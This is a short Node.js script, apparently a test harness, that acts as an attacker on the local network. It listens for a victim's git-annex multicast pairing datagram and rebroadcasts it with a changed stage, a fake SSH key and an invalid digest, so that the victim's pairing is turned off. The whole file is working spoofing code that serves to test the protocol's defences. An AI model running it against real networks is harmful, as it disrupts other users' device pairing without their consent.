/**
 * A stranger on the LAN who knows no phrase. He hears a datagram of the victim and sends it back with another stage, a
 * key of his own and a digest that cannot be right, as the two words of his command line say: `PairReq PairAck` answers
 * every PairReq with a PairAck of the same UUID. One such datagram turns a git-annex's pairing off.
 */
import { createSocket } from 'node:dgram';

const [victim = '', own = '', heard = '', said = ''] = process.argv.slice(2);
const group = '224.0.0.251';
const port = 55556;
/** With the victim's own key it would pass for the victim's own echo. */
const key = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${'A'.repeat(43)}`;

const socket = createSocket({ type: 'udp4', reuseAddr: true });
socket.on('message', (bytes, { address }) => {
  const text = bytes.toString();
  if (address !== victim || !text.includes(`(${heard},`)) return;
  const spoofed = text
    .replace(`(${heard},`, `(${said},`)
    .replace(/"ssh-ed25519 [^"]+"/, `"${key}"`)
    .replace(/"[0-9a-f]{40}"/, `"${'0'.repeat(40)}"`);
  socket.send(spoofed, port, group, () => process.stdout.write('spoofed\n'));
});
socket.bind(port, () => {
  socket.addMembership(group, own);
  socket.setMulticastInterface(own);
  process.stdout.write('listening\n');
});
// The one who started him holds his standard input, and ends him by closing it.
process.stdin.resume().once('end', () => socket.close());
